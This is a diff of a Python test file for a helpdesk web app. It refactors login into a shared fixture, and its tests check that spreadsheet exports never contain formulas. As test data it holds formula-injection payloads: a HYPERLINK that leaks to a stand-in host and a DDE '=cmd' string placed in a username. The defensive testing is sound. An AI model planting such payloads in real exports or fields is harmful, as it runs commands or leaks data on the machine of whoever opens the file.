@@ -14,7 +14,7 @@ from lpsedesk.extensions import db
 from lpsedesk.models import RemoteAccessRequest
 
 from .. import factories
-from ..conftest import TEST_PASSWORD, csrf_from
+from ..conftest import TEST_PASSWORD, csrf_from, logged_in_client
 
 LINK = '=HYPERLINK("http://x.example/?leak","click")'
 HOSTILE = [LINK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
@@ -55,14 +55,6 @@ def test_the_export_library_writes_formula_looking_text_as_text():
     assert {"-5", "+62"} <= set(csv_cells(render_csv(spec))), "plain numbers are left alone"
 
 
-def login(app, username: str):
-    c = app.test_client()
-    token = csrf_from(c, "/admin/login")
-    assert c.post("/admin/login", data={"csrf_token": token, "username": username,
-                                        "password": TEST_PASSWORD}).status_code == 302
-    return c
-
-
 @pytest.fixture
 def hostile_visits(app, make_user):
     helper = make_user("rina", "helpdesk", name="Rina Meja")
@@ -86,7 +78,7 @@ def hostile_visits(app, make_user):
     ("/admin/reports/visits", PERIOD, "rina"),
 ])
 def test_report_exports_never_hold_a_formula(app, hostile_visits, path, query, who):
-    c = login(app, who)
+    c = logged_in_client(app, who)
     xlsx = c.get(path + ".xlsx", query_string=query)
     assert xlsx.status_code == 200
     assert formula_cells(xlsx.data) == []
@@ -107,7 +99,7 @@ def test_the_remote_access_form_never_holds_a_formula(app, make_user):
             status="closed", decided_at=DAY, approved_until=DAY + timedelta(days=1), username="=cmd|' /C calc'!A0",
             rights_granted="\t=1+1", granted_at=DAY, closed_at=DAY + timedelta(hours=5)))
         db.session.commit()
-    c = login(app, "sinta")
+    c = logged_in_client(app, "sinta")
     xlsx = c.get("/admin/remote/form.xlsx?kind=month&value=2026-11")
     assert xlsx.status_code == 200
     assert formula_cells(xlsx.data) == []
